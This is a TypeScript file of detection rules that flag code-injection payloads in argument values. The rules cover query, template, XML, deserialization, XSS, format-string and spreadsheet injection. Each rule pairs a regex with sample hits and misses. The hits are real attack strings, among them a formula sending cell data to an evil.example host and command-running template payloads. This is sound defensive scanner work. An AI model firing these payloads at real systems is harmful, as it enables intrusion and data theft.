// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of attackers look like templates

import type { ArgumentRule } from './argument-rule.ts';

const RISK = { category: 'code_injection', severity: 'high', weight: 4 } as const;

/** Queries, templates and objects that are more than the value they stand in. */
export const CODE_TRICK_RULES: readonly ArgumentRule[] = [
  {
    ...RISK,
    id: 'code.query_break',
    isOfStructure: true,
    message: 'A value ends and a part of a document, directory or XPath query begins.',
    pattern:
      /["'](?:pass(?:word|wd)?|user(?:name)?|login|e?mail|token|pin|otp|code|secret|api_?key)["']\s{0,3}:\s{0,3}\{\s{0,3}["']?\$(?:ne|gte?|lte?|regex|nin|exists|in|not)\b|\$(?:or|and)["']?\s{0,3}:\s{0,3}\[\s{0,3}\{\s{0,3}\}|\[\$(?:in|gte|lte|lt|not|or|and|where)\](?:\[\d{0,3}\])?\s{0,2}=|\$where["'\]]{0,2}\s{0,3}[:=]\s{0,3}["']?\s{0,3}(?:\d|function|this\.|sleep|return|['"])|\bdb\.(?:dropdatabase|[\w.]{1,40}\.drop)\s{0,2}\(\s{0,2}\)|['"]\s{0,3};[ \t]{0,3}(?:while ?\(|for ?\(|(?:db|this)\.\w)|['"]\s{0,3};?\s{0,3}(?:\|\||&&)\s{0,3}(?:this\.|true\b|1\s{0,2}[=;/)]|['"]\w{0,12}['"]\s{0,2}={2,3}|sleep\()|\bthis\.\w{1,24}\.(?:match|length|charat|substr\w{0,6})\b[^\n]{0,40}(?:\/\^|==|\[)|^[^()\n]{0,60}\)\s{0,2}\(\s{0,2}\(?\s{0,2}(?:[&|!]\s{0,2}(?:[()]|\w{1,30}=)|[&|!]\)|\w{1,30}\s{0,2}[~<>]?=)|\b(?:or|and)\s{1,3}count\s{0,2}\(\s{0,2}(?:\/|parent|child|self|ancestor|descendant|following)|^\s{0,3}\*\(\)|^\s{0,3}\*?\){1,4}\s{0,2}(?:%00|\0|\(\s{0,2}[&|])|^(?!\s{0,3}[(.]{0,2}\/)[^\n]{0,80}?['"]\s{0,3}(?:\)?\]\s{0,3}\|\s{0,3}\/{1,2}[\w*]|\]?\s{0,3}(?:or|and)\s{1,3}(?:not\s{0,2}\(|name\s{0,2}\(\)|local-name\s{0,2}\(|count\s{0,2}\(\s{0,2}\/|string-length\s{0,2}\(|substring\s{0,2}\(\s{0,2}\/|starts-with\s{0,2}\(|contains\s{0,2}\(|position\s{0,2}\(|doc\s{0,2}\(|\/\/))/gi,
    hits: [
      '{"password": {"$regex": "^a"}}',
      "' || '1'=='1",
      '{"$or": [{}, {"a": 1}]}',
      'eve)(&)',
      '*))%00',
      "'] | //user/*[contains(*,'",
      "x' or name()='username' or 'x'='y",
    ],
    misses: [
      '(&(objectClass=person)(uid=ann))',
      "//a[text()='x' or contains(., 'y')]",
      'f(x) = (y)',
      '{"age": {"$gte": 18}}',
      '{"$or": [{"a": 1}, {"b": 2}]}',
      'see (a) (b=c)',
    ],
  },
  {
    ...RISK,
    id: 'code.template_code',
    weight: 6,
    message: 'An expression of a template that reaches what runs programs.',
    pattern:
      /\{php\}|\{\/?(?:system|exec|passthru)\(|_self\.env\b|\bgetfilter\s{0,2}\(|\|\s{0,2}(?:filter|map|sort|reduce)\s{0,2}\(\s{0,2}["'](?:system|exec|passthru|phpinfo|shell_exec)|#set\s{0,2}\(\s{0,2}\$\w{1,20}\s{0,2}=[^\n]{0,120}(?:forname|getclass|\$\w{1,20}\.class|getruntime)|\.getclass\(\)[^\n]{0,40}\.(?:forname|getmethod|getclassloader|getdeclared)|["'\]]\.class\.forname\(|@java\.lang\.\w{1,20}@|new java\.lang\.processbuilder|(?:%|\$|\*)\{\s{0,3}\(?#\w{1,20}\s{0,2}[=.]|#context\[|_memberaccess|\?new\(\)|\?api\.|(?:\{\{|\{%|<%|\$\{|#\{|@\{|\*\{)[^}\n]{0,120}(?:__import__|__init__|__builtins__|__subclasses__|popen|mainmodule|child_process|execsync|processbuilder|scriptengine|system\s{0,2}\(|\bexec\s{0,2}\(|os\.\w{1,10}\(|file\.(?:open|read)|io\.popen|dir\.(?:entries|glob)|getruntime|getclass|forname|\bconstructor\b|lipsum|cycler|joiner|namespace\.|url_for\.|get_flashed_messages\.|settings\.secret|\|\s{0,2}attr\s{0,2}\(|application\.\w{1,20}\[|import\s{1,3}os)|\{\{\s{0,3}(?:config|settings|self|request|dump\(app\)|app\.request[^}\n]{0,40})\s{0,3}\}\}|\{%\s{0,3}(?:debug|import\s{1,3}os|include\s{1,3}["']\/etc|load_module)\b|<%=?\s{0,3}\x60|\{\{#with\s{1,3}["']|string\.sub\.constructor|@\(?\s{0,3}system\.(?:diagnostics|io|reflection)|system\.diagnostics\.process|(?:\{\{|\$\{|#\{|%\{|<%=|@\(|\[\[\$\{|\{)\s{0,3}["']?\d{1,6}["']?\s{0,3}[*+/-]\s{0,3}["']?\d{1,6}["']?\s{0,3}(?:\}|%>|\))/gi,
    hits: [
      '{php}echo 1;{/php}',
      '{{_self.env.getFilter("id")}}',
      '#set($e="e")$e.getClass().forName("java.lang.Runtime")',
      "{{request|attr('application')}}",
      '%{7*7}',
      '{{config}}',
      "<%= system('id') %>",
    ],
    misses: [
      "<%= link_to 'Home', root_path %>",
      '{{ user.name }}',
      '${{ secrets.GITHUB_TOKEN }}',
      '{{#each items}}<li>{{this}}</li>{{/each}}',
      '{% if user %}Hi{% endif %}',
      '{1,3}',
    ],
  },
  {
    ...RISK,
    id: 'code.markup_reaches_out',
    message:
      'A document of markup that grows without end, reads other files, or runs on the server that shows it.',
    pattern:
      /<!entity\s{1,8}%?\s{0,8}[\w.-]{1,60}\s{1,8}["'](?:&[\w.-]{1,60};){2}|<!(?:doctype|entity)\b[^>]{0,200}["'](?:file|php|expect|ftp|gopher|jar|netdoc|data):|<!--#\s{0,2}(?:exec|include|echo|config|printenv|fsize)\b|<!doctype\s[^>]{0,120}["']https?:\/\/(?:\d|0x|localhost|\[)|<esi:(?:include|inline|debug|remove|vars)\b|(?:href|src|data|xlink:href|schemalocation)\s{0,3}=\s{0,3}["']\s{0,3}(?:expect|php|gopher|dict|netdoc|jar|file):|<xsl:(?:include|import|value-of)\b[^>]{0,120}(?:document\(|system-property|file:|http:)|\bxsl:script\b|<script\b[^>]{0,60}\bxmlns:msxsl/gi,
    hits: [
      '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>',
      '<esi:include src="http://evil.example/"/>',
      '<image href="expect://id"/>',
      '<!--#echo var="DATE_LOCAL" -->',
    ],
    misses: ['<!ENTITY nbsp "&#160;">', '<a href="https://acme.example/">x</a>', '<!-- a comment -->'],
  },
  {
    ...RISK,
    id: 'code.object_of_program',
    isOfStructure: true,
    weight: 6,
    message: 'Data of a program that becomes an object, and may run, when it is read back.',
    pattern:
      /\ba:\d{1,4}:\{[^\n]{0,200}?[;{]O:\d{1,4}:"|[;{]O:\+?\d{1,4}:"[\w\\]{1,80}":\d|"\$type"\s{0,3}:\s{0,3}"(?:system|microsoft)\.|_\$\$nd_func\$\$_|!!js\/(?:function|undefined)|!ruby\/|!!(?:python|javax?|com|org|net)[./]|"(?:@type|@class|class|__type)"\s{0,3}:\s{0,3}"(?:com\.sun|javax?\.|org\.(?:apache|springframework|codehaus|hibernate)|com\.mchange|com\.alibaba|ch\.qos|bsh\.|groovy\.)|\[\s{0,3}"(?:com\.sun|org\.apache|javax?\.|ch\.qos|com\.mchange|org\.springframework)\.[\w.$]{3,100}"\s{0,3},|\bc(?:__builtin__|builtins|os|posix|nt|subprocess|commands|pty|timeit)(?:\n|\\n)(?:eval|exec|system|popen|check_output|call|spawn|timeit)(?:\n|\\n)|__reduce__|<(?:java|object)\s[^>]{0,80}class\s{0,2}=\s{0,2}["'](?:java\.|javax\.)/gi,
    hits: [
      'a:1:{i:0;O:4:"Evil":0:{}}',
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
      "_$$ND_FUNC$$_function(){require('child_process')}()",
    ],
    misses: ['{"$type": "string"}', 'a:2 and b:3', '{"class": "button"}', 'gAMe', '["com.acme.Thing", 1]'],
  },
  {
    ...RISK,
    id: 'code.runs_in_value',
    message: 'Code in a value that starts programs, or takes its orders from a request.',
    pattern:
      /(?:\b(?:eval|assert|system|exec|passthru|shell_exec|popen|proc_open|include|require|create_function|preg_replace|unserialize|file_get_contents)\s{0,2}\(?\s{0,2}|\x60)(?:base64_decode\s{0,2}\(\s{0,2})?@?\$_(?:get|post|request|cookie|server|files)\s{0,2}\[|^\s{0,4};?\s{0,2}(?:phpinfo|phpversion|phpcredits)\s{0,2}\(\s{0,2}-?\d{0,3}\s{0,2}\)|\$\{\s{0,2}@?(?:print|phpinfo|system|eval|exec|passthru)\s{0,2}\(|^\s{0,4}(?:eval|exec)\s{0,2}\(\s{0,2}(?:compile|atob|base64|string\.from|bytes|codecs|zlib|__import__|chr\()|__import__\s{0,2}\(\s{0,2}["'](?:os|subprocess|socket|pty|commands|builtins|urllib)|\b__builtins__\b|preg_replace\s{0,2}\(\s{0,2}["']\/[^"'\n]{0,40}\/e|<%\s{0,3}(?:eval|execute(?:global)?)\s{0,2}\(?\s{0,2}request|process\.mainmodule\b|global\.process\.|\bprocess\.binding\s{0,2}\(|\bfunction\s{0,2}\(\s{0,2}["']return\s{1,3}(?:this|process)|\bimport\s{1,3}os\s{0,3};\s{0,3}os\.(?:system|popen)|^\s{0,4}(?:['")\]};\s]{1,6})\s{0,3}(?:\+|\.|;|,)?\s{0,3}(?:require\s{0,2}\(["']child_process|phpinfo\s{0,2}\(|assert\s{0,2}\(\s?\$|popen\s{0,2}\(|__import__\s{0,2}\(|system\s{0,2}\(|exec\s{0,2}\(|eval\s{0,2}\(|passthru\s{0,2}\(|print\s{0,2}\(\s{0,2}(?:md5|\d{1,12}\s{0,2}[*+])|die\s{0,2}\(\s{0,2}(?:md5|print)|response\.(?:write|end)\s{0,2}\(|process\.(?:exit|kill)\s{0,2}\()/gi,
    hits: [
      'phpinfo()',
      "assert($_POST['x'])",
      "eval(compile('import os','','exec'))",
      "process.mainModule.require('child_process')",
      "');system('id');('",
      '${@print(md5(1))}',
    ],
    misses: [
      'eval(x)',
      '$name = $_POST["name"];',
      'print(md5(x))',
      'import os\nprint(os.getcwd())',
      "x = '; system('",
    ],
  },
  {
    ...RISK,
    id: 'code.markup_breaks_out',
    message: 'A value ends the attribute, text or script it is to stand in, and begins markup of its own.',
    pattern:
      /^[^<>\n]{0,60}["'\x60]\s{0,2}\/?>\s{0,4}<\/?[a-z!]|^[^<>\n]{0,40}<\/(?:title|textarea|style|script|noscript|template)>\s{0,4}<[a-z]|^[^\n]{0,40}?["'\x60;)]\s{0,3}[-+;*/]{0,2}\s{0,3}(?:alert|prompt|confirm)\s{0,2}[(\x60]\s{0,2}(?:\d{0,6}|document\.\w{1,12}|["']?xss["']?)\s{0,2}[)\x60]|^[^<\n]{0,40}["'\x60]\s{1,3}(?:[\w-]{1,20}(?:=\S{1,20})?\s{1,3}){0,3}on(?:error|load|focus|click|mouse\w{2,6}|toggle|pointer\w{2,8}|animation\w{3,8})\s{0,2}=|<(?:img|svg|body|iframe|video|audio|input|details|marquee|object|embed|math|style|select|textarea|keygen|button|form|link|meta|base|a)\b[^<>]{0,160}[\s/"']on\w{3,24}\s{0,3}=\s{0,3}["'\x60]?\s{0,3}(?:\w{1,12}\s{0,2}=\s{0,2})?(?:\(?(?:alert|prompt|confirm|eval|fetch|import|atob|self|top|parent|window|document|location|settimeout|setinterval|new\s{1,2}(?:function|image|xmlhttprequest)|\$\.|this\[|\[\]|\(\)=>|&#)[\s(.[\x60&/=]?)|<(?:iframe|embed|object|a|form|button|svg|math|base)\b[^<>]{0,120}(?:src|data|href|action|formaction|xlink:href)\s{0,3}=\s{0,3}["'\x60]?\s{0,3}(?:javascript|vbscript|data:text\/html|&#(?:0{0,6}106|x0{0,6}6a))|=\s{0,2}["']?\s{0,2}j\s?a?\s?v?\s?a?s?c?&(?:#|tab;|newline;)|<(?:script|iframe)\b[^<>]{0,40}\ssrc\s{0,2}=\s{0,2}["']?\/\/|<svg[\s/][^<>]{0,80}>\s{0,3}<(?:script|animate|set)\b[^<>]{0,120}(?:>\s{0,3}\w{1,10}\s{0,2}[(\x60]|onbegin|javascript)|^\s{0,3}data:text\/html/gi,
    hits: [
      '"><svg onload=go()>',
      "'-alert(1)-'",
      '</title><script src=x></script>',
      '<iframe src="javascript:alert(1)">',
      'data:text/html;base64,PHNjcmlwdD4=',
    ],
    misses: [
      '<p>Hello <b>Ann</b></p>',
      "alert('Saved')",
      '<img src="/a.png" onerror="this.src=\'/b.png\'">',
      '"a" > "b" and <c>',
      '<button class="btn" onclick="save()">Save</button>',
    ],
  },
  {
    ...RISK,
    id: 'code.format_string',
    message: 'A value is made of directives that read or write the memory of a program.',
    pattern:
      /^[A-Za-z]{0,16}(?:%(?:\d{1,4}\$)?[\d.]{0,6}(?:l{1,2}|h{1,2})?[xXpsn][\s.,:;|_-]{0,2}){4}|%(?:\d{1,5}\$)?(?:h{1,2}|l)?n(?:[\s%$]|$)(?<=%[^\n]{0,40}%(?:\d{1,5}\$)?(?:h{1,2}|l)?n[\s%$]?)|%\d{1,5}\$(?:h{1,2})?n\b|(?:%\d{1,4}\$[px][\s.,:;|_-]{0,2}){3}/g,
    hits: ['%s%s%s%s%n', 'AAAA%08x.%08x.%08x.%n', '%p.%p.%p.%p', '%7$n'],
    misses: ['%s: %d items, %5.2f EUR', '100%', '%20a%20b', 'a %s and a %s'],
  },
  {
    ...RISK,
    id: 'code.cell_reaches_out',
    message: 'A cell of a spreadsheet that sends other cells away.',
    pattern:
      /^\s{0,2}["']?[=+@-]\s{0,2}(?:hyperlink|image|webservice|import(?:xml|data|feed|html|range)|filterxml|rtd|call|exec|register)\s{0,2}\([^\n]{0,200}(?:https?:|\\\\|concat|&|cmd|"msexcel)|^\s{0,2}["']?[=+@-][^\n]{0,80}\|\s{0,3}['"]?\s{0,3}\/c\b|^\s{0,2}["']?[=+@-][^\n]{0,40}\b(?:msexcel|cmd|powershell|excel|calc)(?:\.exe)?\s{0,2}\|/gi,
    hits: ['=HYPERLINK("http://evil.example?x="&A1,"click")', "-2+3+cmd|' /C notepad'!A0"],
    misses: ['=SUM(A1:A10)', '=VLOOKUP(B2, Sheet2!A:D, 4, FALSE)', '+49 30 1234567', '=A1&B1'],
  },
];
